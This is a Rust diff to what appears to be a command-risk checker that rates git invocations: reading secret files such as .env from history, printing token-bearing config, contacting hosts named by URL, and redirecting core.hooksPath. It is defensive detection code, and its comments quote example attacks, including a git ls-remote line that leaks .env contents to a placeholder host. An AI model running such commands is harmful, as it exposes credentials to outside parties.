@@ -120,6 +120,9 @@ pub(super) fn git(input: &Input<'_>) -> Verdict {
             v.word(FileOp::Read, operand, input);
         }
     }
+    secret_reads(&mut v, sub, &flags, &operands, rest, input);
+    v.secrets |= sub == "config" && dumps_config(&flags, &operands);
+    egress(&mut v, sub, &operands);
     let (risk, reason): (Risk, String) = match sub {
         "status" | "log" | "diff" | "show" | "rev-parse" | "ls-files" | "ls-tree" | "blame"
         | "shortlog" | "describe" | "grep" | "cat-file" | "whatchanged" | "count-objects"
@@ -174,6 +177,12 @@ pub(super) fn git(input: &Input<'_>) -> Verdict {
             ),
             _ => (Risk::Medium, "Stashes or restores changes.".into()),
         },
+        "config" if dumps_config(&flags, &operands) => (
+            Risk::Medium,
+            "Prints git configuration that can hold tokens (in remote URLs, credential \
+             helpers and extra headers)."
+                .into(),
+        ),
         "config" => {
             if has("--get")
                 || has("--list")
@@ -327,10 +336,148 @@ pub(super) fn git(input: &Input<'_>) -> Verdict {
     v
 }
 
+/// The files git's reading subcommands print: `REV:PATH` and `:PATH` blobs (`git show
+/// HEAD:.env`, `git cat-file -p HEAD:.env`), the paths after `--` of `log`, `diff`,
+/// `show` and `blame`, and every file below the folder for `git grep --no-index` or
+/// `--untracked` (which read files git does not track, `.env` among them). Each is
+/// judged as a read of the file in the work tree, so a secret is as sensitive in
+/// history as on disk.
+fn secret_reads(
+    v: &mut Verdict,
+    sub: &str,
+    flags: &[String],
+    operands: &[Word],
+    rest: &[Word],
+    input: &Input<'_>,
+) {
+    if !matches!(
+        sub,
+        "show" | "cat-file" | "log" | "diff" | "blame" | "grep" | "archive" | "whatchanged"
+    ) {
+        return;
+    }
+    for operand in operands {
+        if operand.dynamic || operand.text.contains("://") {
+            continue;
+        }
+        if let Some((_, path)) = operand.text.split_once(':')
+            && !path.is_empty()
+        {
+            v.word(FileOp::Read, &Word::literal(path), input);
+        }
+    }
+    if let Some(dashdash) = rest.iter().position(|w| w.text == "--") {
+        for path in &rest[dashdash + 1..] {
+            v.word(FileOp::Read, path, input);
+        }
+    } else if sub == "blame"
+        && let Some(path) = operands.last()
+    {
+        v.word(FileOp::Read, path, input);
+    }
+    if sub == "grep"
+        && flags
+            .iter()
+            .any(|f| f == "--no-index" || f == "--untracked")
+    {
+        super::files::sweep(v, "git grep", &[], &[], &[], input);
+    }
+}
+
+/// Whether `git config` prints configuration that can hold tokens: a listing, a
+/// pattern of keys, or one of the keys that hold them (`remote.*.url`,
+/// `credential.*`, `http.*.extraheader`, `url.*`).
+fn dumps_config(flags: &[String], operands: &[Word]) -> bool {
+    let listing = flags.iter().any(|f| {
+        matches!(
+            f.as_str(),
+            "--list" | "-l" | "--get-regexp" | "--show-origin" | "--show-scope"
+        )
+    });
+    let reads = flags
+        .iter()
+        .any(|f| matches!(f.as_str(), "--get" | "--get-all" | "--get-urlmatch"))
+        || operands.len() == 1;
+    let token_key = operands
+        .first()
+        .is_some_and(|k| k.dynamic || holds_token(&k.text.to_ascii_lowercase()));
+    listing || (reads && token_key)
+}
+
+/// Git configuration keys whose values can carry a token.
+fn holds_token(key: &str) -> bool {
+    (key.starts_with("remote.") && (key.ends_with(".url") || key.ends_with(".pushurl")))
+        || key.starts_with("credential")
+        || key.contains("extraheader")
+        || key.starts_with("url.")
+}
+
+/// Git subcommands that contact a host: given a URL rather than a configured remote,
+/// the host is the command's choice, and the URL itself can carry data out (`git
+/// ls-remote https://x.example/$(cat .env)`): High, as any network tool.
+fn egress(v: &mut Verdict, sub: &str, operands: &[Word]) {
+    if !matches!(
+        sub,
+        "ls-remote" | "fetch" | "pull" | "push" | "clone" | "archive" | "remote" | "submodule"
+    ) {
+        return;
+    }
+    if let Some(url) = operands
+        .iter()
+        .find(|o| o.dynamic || looks_like_url(&o.text))
+    {
+        v.raise(
+            Risk::High,
+            format!(
+                "Runs git {sub} against {}, a host the command names, which sends data over the network.",
+                url.text
+            ),
+        );
+    }
+}
+
+/// A git URL: `scheme://...`, `user@host:path`, or `host:path` with a dot in the host.
+pub(in crate::shell) fn looks_like_url(text: &str) -> bool {
+    if text.contains("://") {
+        return true;
+    }
+    match text.split_once(':') {
+        Some((host, path)) => {
+            !host.is_empty()
+                && !path.is_empty()
+                && !host.contains('/')
+                && (host.contains('@') || host.contains('.'))
+        }
+        None => false,
+    }
+}
+
 /// Judges one git configuration `key=value`: a command it runs becomes a script of
 /// the verdict, a key that moves configuration or programs is High, any other key
 /// runs nothing.
 fn config_value(v: &mut Verdict, key: &str, value: &str, verb: &str) {
+    // `core.hooksPath` names the folder whose programs git runs on commit, merge,
+    // checkout, push...: pointing it anywhere is an execution-config change, as
+    // writing `.git/hooks` is. Pointing it at nothing turns the hooks off, as
+    // `--no-verify` does.
+    if key.eq_ignore_ascii_case("core.hooksPath") {
+        if matches!(value.trim(), "" | "/dev/null") {
+            v.raise(
+                Risk::Medium,
+                format!(
+                    "{verb} core.hooksPath to nothing, which turns the repository's hooks off."
+                ),
+            );
+        } else {
+            v.raise(
+                Risk::Critical,
+                format!(
+                    "{verb} core.hooksPath to {value}, so git runs the programs there as hooks on commit, merge, checkout and push."
+                ),
+            );
+        }
+        return;
+    }
     match git_config_key(key) {
         GitKey::Runs => {
             if let Some(script) = git_value_script(key, value) {
